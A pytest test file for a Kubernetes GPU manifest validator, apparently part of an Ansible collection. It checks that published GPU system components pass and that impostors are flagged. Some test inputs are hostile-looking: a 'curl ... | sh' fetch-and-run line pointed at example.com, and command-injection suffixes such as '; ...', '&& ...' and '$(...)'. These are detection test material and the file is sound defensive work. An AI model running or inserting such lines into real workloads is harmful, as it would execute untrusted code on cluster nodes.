"""Published manifests of GPU system components pass by default, their findings allowed with the
component's name; impostors (a component's names, labels and namespace with another image, or its image
with a user's command) are still judged."""

import copy
import io
import json
from pathlib import Path

import pytest
import yaml

from ansible_collections.kubegpu.scheduling.plugins.module_utils.gpu.components import BUILTIN_CATALOGUE, NO_CATALOGUE
from ansible_collections.kubegpu.scheduling.plugins.module_utils.validate import cli as validate_cli
from ansible_collections.kubegpu.scheduling.plugins.module_utils.validate.checker import RuleConfig
from ansible_collections.kubegpu.scheduling.plugins.module_utils.validate.documents import validate_documents
from ansible_collections.kubegpu.scheduling.plugins.module_utils.validate.manifests import Document, parse_text
from ansible_collections.kubegpu.scheduling.plugins.module_utils.validate.rules import RULES

SYSTEM = Path(__file__).resolve().parents[3] / "fixtures" / "manifests" / "system"

# Each fixture and the component it is; the ones without a finding to allow are still recognised.
EXPECTED = {
    "nvidia-device-plugin-static.yaml": "NVIDIA device plugin",
    "nvidia-device-plugin-helm.yaml": "NVIDIA device plugin",
    "gpu-feature-discovery-static.yaml": "NVIDIA GPU Feature Discovery",
    "gpu-operator-device-plugin.yaml": "NVIDIA device plugin",
    "gpu-operator-gpu-feature-discovery.yaml": "NVIDIA GPU Feature Discovery",
    "gpu-operator-mps-control-daemon.yaml": "NVIDIA MPS control daemon",
    "gpu-operator-mps-control-daemon-v24.3.0.yaml": "NVIDIA MPS control daemon",
    "nvidia-device-plugin-mps-control-daemon-helm.yaml": "NVIDIA MPS control daemon",
    "gpu-operator-driver.yaml": "NVIDIA GPU Operator driver",
    "gpu-operator-driver-full-spec.yaml": "NVIDIA GPU Operator driver",
    "gpu-operator-driver-openshift-drivertoolkit.yaml": "NVIDIA GPU Operator driver",
    "gpu-operator-driver-gdrcopy-openshift.yaml": "NVIDIA GPU Operator driver",
    "gpu-operator-container-toolkit.yaml": "NVIDIA GPU Operator container toolkit",
    "gpu-operator-operator-validator.yaml": "NVIDIA GPU Operator validator",
    "gpu-operator-sandbox-validator.yaml": "NVIDIA GPU Operator validator",
    "gpu-operator-node-status-exporter.yaml": "NVIDIA GPU Operator node status exporter",
    "gpu-operator-dcgm.yaml": "NVIDIA DCGM",
    "gpu-operator-dcgm-exporter.yaml": "NVIDIA DCGM exporter",
    "dcgm-exporter-helm.yaml": "NVIDIA DCGM exporter",
    "gpu-operator-mig-manager.yaml": "NVIDIA GPU Operator MIG manager",
    "gpu-operator-sandbox-device-plugin.yaml": "NVIDIA GPU Operator sandbox device plugin",
    "gpu-operator-kata-sandbox-device-plugin.yaml": "NVIDIA GPU Operator Kata sandbox device plugin",
    "gpu-operator-vfio-manager.yaml": "NVIDIA GPU Operator VFIO manager",
    "gpu-operator-vgpu-manager.yaml": "NVIDIA vGPU manager",
    "gpu-operator-vgpu-device-manager.yaml": "NVIDIA vGPU device manager",
    "gpu-operator-cc-manager.yaml": "NVIDIA GPU Operator confidential computing manager",
    "nvidia-dra-driver-kubelet-plugin.yaml": "NVIDIA DRA driver for GPUs, kubelet plugin",
    "gke-nvidia-gpu-device-plugin.yaml": "GKE NVIDIA GPU device plugin",
    "gke-nvidia-driver-installer-cos.yaml": "GKE NVIDIA driver installer",
    "gke-nvidia-driver-installer-ubuntu.yaml": "GKE NVIDIA driver installer",
    "gke-nvidia-driver-installer-cos-latest.yaml": "GKE NVIDIA driver installer",
    "gke-nvidia-driver-installer-cos-latest-a4x.yaml": "GKE NVIDIA driver installer",
    "gke-nri-device-injector.yaml": "GKE NRI device injector",
    "gke-nccl-rdma-installer.yaml": "GKE NCCL RDMA installer",
    "gke-nccl-rdma-installer-autopilot.yaml": "GKE NCCL RDMA installer",
    "gke-nccl-rdma-installer-a4x.yaml": "GKE NCCL RDMA installer",
    "gke-nccl-rdma-installer-log-martians.yaml": "GKE NCCL RDMA installer",
    "gke-nccl-rdma-installer-a4x-container-toolkit.yaml": "GKE NCCL RDMA installer",
    "gke-nccl-tcpx-installer.yaml": "GKE NCCL TCPX installer",
    "gke-nccl-tcpx-installer-autopilot.yaml": "GKE NCCL TCPX installer",
    "gke-nccl-tcpxo-installer.yaml": "GKE NCCL TCPXO installer",
    "gke-nccl-tcpxo-installer-iptables.yaml": "GKE NCCL TCPXO installer",
    "koordlet.yaml": "Koordinator koordlet",
    "dra-example-driver-kubeletplugin.yaml": "Kubernetes DRA example driver, kubelet plugin",
    "koord-device-daemon.yaml": "Koordinator device daemon",
    "ack-gpushare-device-plugin.yaml": "Alibaba GPU sharing device plugin (gpushare)",
    "volcano-device-plugin.yaml": "Volcano device plugin",
    "hami-device-plugin.yaml": "HAMi device plugin",
    "amd-gpu-device-plugin.yaml": "AMD GPU device plugin",
    "amd-gpu-node-labeller.yaml": "AMD GPU device plugin",
    "amd-gpu-device-config-manager.yaml": "AMD GPU Operator device config manager",
    "amd-gpu-operator-device-plugin.yaml": "AMD GPU Operator device plugin",
    "amd-gpu-operator-device-plugin-arguments.yaml": "AMD GPU Operator device plugin",
    "amd-gpu-operator-node-labeller.yaml": "AMD GPU Operator node labeller",
    "amd-gpu-operator-node-labeller-arguments.yaml": "AMD GPU Operator node labeller",
    "amd-gpu-operator-metrics-exporter.yaml": "AMD GPU Operator metrics exporter",
    "amd-gpu-operator-metrics-exporter-rbac.yaml": "AMD GPU Operator metrics exporter",
    "amd-gpu-operator-test-runner.yaml": "AMD GPU Operator test runner",
    "amd-gpu-operator-test-runner-vf-passthrough.yaml": "AMD GPU Operator test runner",
    "intel-gpu-plugin.yaml": "Intel GPU plugin",
}


def load(name):
    text = (SYSTEM / name).read_text(encoding="utf-8")
    documents, error = parse_text(text, name)
    assert error is None and len(documents) == 1
    return documents[0].data


def check(obj, config=None):
    return validate_documents([Document("test.yaml", 0, obj, 1)], config or RuleConfig())


def pod_spec(obj):
    return obj["spec"]["template"]["spec"]


def test_every_fixture_is_listed_and_names_its_source():
    assert sorted(p.name for p in SYSTEM.glob("*.yaml")) == sorted(EXPECTED)
    for path in SYSTEM.glob("*.yaml"):
        assert path.read_text(encoding="utf-8").startswith("# Source: "), path.name


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_each_fixture_is_recognised_as_its_component(name):
    assert BUILTIN_CATALOGUE.recognise(pod_spec(load(name))).name == EXPECTED[name]


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_a_published_component_gives_no_error_or_warning_and_its_findings_are_allowed_with_its_name(name):
    obj = load(name)
    report = check(obj)
    assert report.findings == []
    assert {a.reason for a in report.allowed} <= {f"known GPU system component: {EXPECTED[name]}"}
    switched_off = check(obj, RuleConfig(components=NO_CATALOGUE))
    assert [a.finding for a in report.allowed] == switched_off.findings
    assert switched_off.allowed == []


def test_most_published_components_have_findings_to_allow():
    with_findings = [name for name in EXPECTED if check(load(name), RuleConfig(components=NO_CATALOGUE)).findings]
    assert len(with_findings) >= len(EXPECTED) - 3


@pytest.mark.parametrize(
    "name", ["gpu-operator-device-plugin.yaml", "gpu-operator-driver.yaml", "gke-nvidia-gpu-device-plugin.yaml"]
)
def test_an_impostor_with_the_components_names_labels_and_namespace_but_another_image_is_judged(name):
    obj = copy.deepcopy(load(name))
    pod_spec(obj)["containers"][0]["image"] = "registry.example.com/team/trainer:1"
    report = check(obj)
    assert report.allowed == []
    assert any(RULES[f.rule].severity == "error" for f in report.findings)


@pytest.mark.parametrize(
    "name",
    [
        "gpu-operator-device-plugin.yaml",
        "gpu-operator-container-toolkit.yaml",
        "hami-device-plugin.yaml",
        "koordlet.yaml",
        "koord-device-daemon.yaml",
    ],
)
def test_the_components_image_with_a_user_command_is_judged(name):
    obj = copy.deepcopy(load(name))
    pod_spec(obj)["containers"][0]["command"] = ["python", "train.py"]
    pod_spec(obj)["containers"][0].pop("args", None)
    report = check(obj)
    assert report.allowed == []
    assert any(f.severity == "error" for f in report.findings)


@pytest.mark.parametrize(
    "name, index",
    [
        ("gpu-operator-driver-full-spec.yaml", 0),  # nvidia-driver init --foo --bar
        ("gpu-operator-driver-openshift-drivertoolkit.yaml", 1),  # the Driver Toolkit side-car's script
        ("gpu-operator-driver-gdrcopy-openshift.yaml", 1),  # GDRCopy from the Driver Toolkit entrypoint
    ],
)
def test_operator_rendered_driver_containers_with_a_users_command_are_judged(name, index):
    obj = copy.deepcopy(load(name))
    assert check(obj).findings == []
    pod_spec(obj)["containers"][index]["command"] = ["bash", "-c"]
    pod_spec(obj)["containers"][index]["args"] = ["python train.py"]
    report = check(obj)
    assert report.allowed == []
    assert any(f.severity == "error" for f in report.findings)


@pytest.mark.parametrize(
    "name",
    [
        "gke-nccl-rdma-installer.yaml",
        "gke-nccl-tcpxo-installer.yaml",
        "amd-gpu-device-config-manager.yaml",
        "gke-nccl-rdma-installer-log-martians.yaml",  # the alpine init container
        "gke-nccl-rdma-installer-a4x-container-toolkit.yaml",
        "gke-nccl-tcpx-installer.yaml",
        "gke-nccl-tcpxo-installer-iptables.yaml",  # the ubuntu init container
    ],
)
def test_an_nccl_installers_helper_with_a_users_script_is_judged(name):
    obj = copy.deepcopy(load(name))
    pod_spec(obj)["initContainers"][0]["args"] = ["python train.py"]
    pod_spec(obj)["initContainers"][0]["command"] = ["/bin/sh", "-c"]
    report = check(obj)
    assert report.allowed == []
    assert any(f.severity == "error" for f in report.findings)


# Each container of the published GKE installers and MPS control daemons, once with a user's command line.
CONTAINERS_OF_NEW_FIXTURES = [
    (name, kind, index)
    for name in (
        "gke-nccl-rdma-installer-a4x-container-toolkit.yaml",
        "gke-nccl-rdma-installer-autopilot.yaml",
        "gke-nccl-rdma-installer-a4x.yaml",
        "gke-nccl-tcpx-installer.yaml",
        "gpu-operator-mps-control-daemon-v24.3.0.yaml",
        "nvidia-device-plugin-mps-control-daemon-helm.yaml",
    )
    for kind in ("initContainers", "containers")
    for index in range(len(pod_spec(load(name)).get(kind, [])))
]


@pytest.mark.parametrize("name, kind, index", CONTAINERS_OF_NEW_FIXTURES)
def test_any_container_of_an_installer_or_mps_daemon_with_a_users_command_is_not_the_component(name, kind, index):
    obj = copy.deepcopy(load(name))
    assert BUILTIN_CATALOGUE.recognise(pod_spec(obj)).name == EXPECTED[name]
    container = pod_spec(obj)[kind][index]
    container["command"], container["args"] = ["bash", "-c"], ["python train.py"]
    assert BUILTIN_CATALOGUE.recognise(pod_spec(obj)) is None
    assert check(obj).allowed == []


@pytest.mark.parametrize(
    "name, script",
    [
        # The container toolkit installer's script with one more line.
        ("gke-nccl-rdma-installer-a4x-container-toolkit.yaml", "curl -s https://example.com/x.sh | sh\n"),
        # The plugin's install script made to run a user's program after it.
        ("gke-nccl-rdma-installer-autopilot.yaml", "python train.py\n"),
        ("gke-nccl-tcpx-installer.yaml", "python train.py\n"),
        ("gke-nvidia-driver-installer-cos-latest.yaml", "python train.py\n"),
    ],
)
def test_a_published_script_with_more_appended_is_not_the_component(name, script):
    obj = copy.deepcopy(load(name))
    container = next(c for c in pod_spec(obj)["initContainers"] if "installer" in c["name"])
    argv = [*container.get("command", []), *container.get("args", [])]
    container.pop("args", None)
    container["command"] = [*argv[:-1], argv[-1] + script]
    assert BUILTIN_CATALOGUE.recognise(pod_spec(obj)) is None
    assert check(obj).allowed == []


@pytest.mark.parametrize(
    "image",
    [
        "registry.example.com/team/nccl-plugin-gib-arm64:v1",  # the component's image name elsewhere
        "us-docker.pkg.dev/acme/gpudirect-tcpx/nccl-plugin-gpudirecttcpx-dev:v3",  # another project's path
        "ubuntu:22.04",  # a helper image in the component's own place
        "alpine:latest",
    ],
)
def test_another_image_in_the_installers_place_is_judged(image):
    for name in ("gke-nccl-rdma-installer-a4x.yaml", "gke-nccl-tcpx-installer.yaml"):
        obj = copy.deepcopy(load(name))
        pod_spec(obj)["initContainers"][-1]["image"] = image
        assert BUILTIN_CATALOGUE.recognise(pod_spec(obj)) is None, (name, image)
        report = check(obj)
        assert report.allowed == []
        assert any(f.severity == "error" for f in report.findings)


AMD_OPERANDS = (
    "amd-gpu-operator-device-plugin.yaml",
    "amd-gpu-operator-node-labeller.yaml",
    "amd-gpu-operator-metrics-exporter.yaml",
    "amd-gpu-operator-test-runner.yaml",
)


@pytest.mark.parametrize("name", AMD_OPERANDS)
def test_an_amd_operands_image_with_a_users_command_is_judged(name):
    obj = copy.deepcopy(load(name))
    pod_spec(obj)["containers"][0]["command"] = ["sh", "-c"]
    pod_spec(obj)["containers"][0]["args"] = ["python train.py"]
    report = check(obj)
    assert report.allowed == []
    assert any(f.severity == "error" for f in report.findings)


@pytest.mark.parametrize("name", AMD_OPERANDS)
def test_an_amd_operands_wait_for_the_driver_with_a_users_script_is_judged(name):
    obj = copy.deepcopy(load(name))
    pod_spec(obj)["initContainers"][0]["command"] = ["sh", "-c", "python train.py"]
    report = check(obj)
    assert report.allowed == []
    assert report.findings == check(obj, RuleConfig(components=NO_CATALOGUE)).findings != []


@pytest.mark.parametrize(
    "name, script",
    [
        ("amd-gpu-operator-device-plugin-arguments.yaml", "; python train.py"),
        ("amd-gpu-operator-device-plugin-arguments.yaml", " -x=$(python train.py)"),
        ("amd-gpu-operator-node-labeller-arguments.yaml", " && python train.py"),
        ("amd-gpu-operator-node-labeller-arguments.yaml", "\npython train.py"),
    ],
)
def test_the_flags_an_amd_operator_appends_are_words_never_more_shell(name, script):
    obj = copy.deepcopy(load(name))
    container = pod_spec(obj)["containers"][0]
    argv = [*container.get("command", []), *container.get("args", [])]
    assert argv[:2] == ["sh", "-c"] and " -" in argv[2]
    container.pop("args", None)
    container["command"] = ["sh", "-c", argv[2] + script]
    assert BUILTIN_CATALOGUE.recognise(pod_spec(obj)) is None
    assert check(obj).allowed == []


def test_the_dra_example_drivers_image_with_a_user_command_is_judged():
    obj = copy.deepcopy(load("dra-example-driver-kubeletplugin.yaml"))
    pod_spec(obj)["containers"][0]["command"] = ["python", "train.py"]
    report = check(obj)
    assert report.allowed == []
    assert [f.rule for f in report.findings] == ["KGPU302"]  # privileged, without a sign of GPU use


def test_the_drivers_init_takes_further_arguments_but_not_another_verb():
    obj = copy.deepcopy(load("gpu-operator-driver-full-spec.yaml"))
    assert pod_spec(obj)["containers"][0]["args"] == ["init", "--foo", "--bar"]
    pod_spec(obj)["containers"][0]["args"] = ["--foo", "init"]
    assert BUILTIN_CATALOGUE.recognise(pod_spec(obj)) is None


def test_a_workload_that_borrows_a_components_labels_and_namespace_is_judged():
    impostor = {
        "apiVersion": "apps/v1",
        "kind": "DaemonSet",
        "metadata": {"name": "nvidia-device-plugin-daemonset", "namespace": "kube-system"},
        "spec": {
            "selector": {"matchLabels": {"name": "nvidia-device-plugin-ds"}},
            "template": {
                "metadata": {"labels": {"name": "nvidia-device-plugin-ds"}},
                "spec": {
                    "containers": [
                        {
                            "name": "nvidia-device-plugin-ctr",
                            "image": "nvcr.io/nvidia/cuda:12.4.1-base-ubuntu22.04",
                            "command": ["python", "train.py"],
                            "env": [{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}],
                        }
                    ]
                },
            },
        },
    }
    assert [f.rule for f in check(impostor).findings] == ["KGPU101"]


def test_quantity_findings_of_a_component_stay_findings():
    obj = copy.deepcopy(load("nvidia-device-plugin-static.yaml"))
    pod_spec(obj)["containers"][0]["resources"] = {"limits": {"nvidia.com/gpu": "0.5"}}
    report = check(obj)
    assert report.findings and all(not RULES[f.rule].allowable for f in report.findings)


def test_the_allow_annotation_reason_comes_first():
    obj = copy.deepcopy(load("gpu-feature-discovery-static.yaml"))
    obj["spec"]["template"]["metadata"]["annotations"] = {"kubegpu.io/allow-bypass": "labels the GPU nodes"}
    assert {a.reason for a in check(obj).allowed} == {"labels the GPU nodes"}


# --- the command line ---------------------------------------------------------------------------


def cli(*argv):
    out, err = io.StringIO(), io.StringIO()
    code = validate_cli.run(list(argv), stdout=out, stderr=err)
    return code, out.getvalue(), err.getvalue()


def test_the_command_line_passes_the_components_and_judges_them_with_no_system_components():
    paths = [str(SYSTEM / name) for name in ("gpu-operator-driver.yaml", "hami-device-plugin.yaml")]
    assert cli(*paths)[0] == 0
    code, out, _err = cli("--no-system-components", *paths)
    assert code == 1
    assert "KGPU301" in out


def test_the_command_line_takes_more_components_from_a_file(tmp_path):
    agent = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "agent", "namespace": "acme-system"},
        "spec": {
            "containers": [
                {
                    "name": "agent",
                    "image": "registry.example.com/acme/gpu-agent:2",
                    "command": ["/usr/bin/gpu-agent", "--all"],
                    "securityContext": {"privileged": True},
                    "env": [{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}],
                }
            ]
        },
    }
    manifest = tmp_path / "agent.yaml"
    manifest.write_text(yaml.safe_dump(agent), encoding="utf-8")
    components = tmp_path / "components.yaml"
    components.write_text(
        yaml.safe_dump(
            [{"name": "Acme GPU agent", "images": ["acme/gpu-agent"], "commands": [["/usr/bin/gpu-agent", "..."]]}]
        ),
        encoding="utf-8",
    )
    assert cli(str(manifest))[0] == 1
    report = tmp_path / "report.json"
    assert cli("--system-components", str(components), "--json", str(report), str(manifest))[0] == 0
    allowed = json.loads(report.read_text(encoding="utf-8"))["allowed"]
    assert allowed and {a["allowed_reason"] for a in allowed} == {"known GPU system component: Acme GPU agent"}
    as_map = tmp_path / "only.json"
    as_map.write_text(
        json.dumps(
            {
                "builtin": False,
                "extra": [
                    {
                        "name": "Acme GPU agent",
                        "images": ["acme/gpu-agent"],
                        "commands": [["/usr/bin/gpu-agent", "--all"]],
                    }
                ],
            }
        )
    )
    assert cli("--system-components", str(as_map), str(manifest))[0] == 0
    # The map form can switch the built-in catalogue off.
    assert cli("--system-components", str(as_map), str(SYSTEM / "gpu-operator-driver.yaml"))[0] == 1


def test_a_bad_components_file_is_a_usage_error_naming_the_flag_and_entry(tmp_path):
    components = tmp_path / "components.yaml"
    components.write_text("- name: Agent\n", encoding="utf-8")
    code, _out, err = cli("--system-components", str(components), str(SYSTEM / "gpu-operator-driver.yaml"))
    assert code == 2
    assert f"--system-components {components}.extra[0] (Agent): images is required" in err
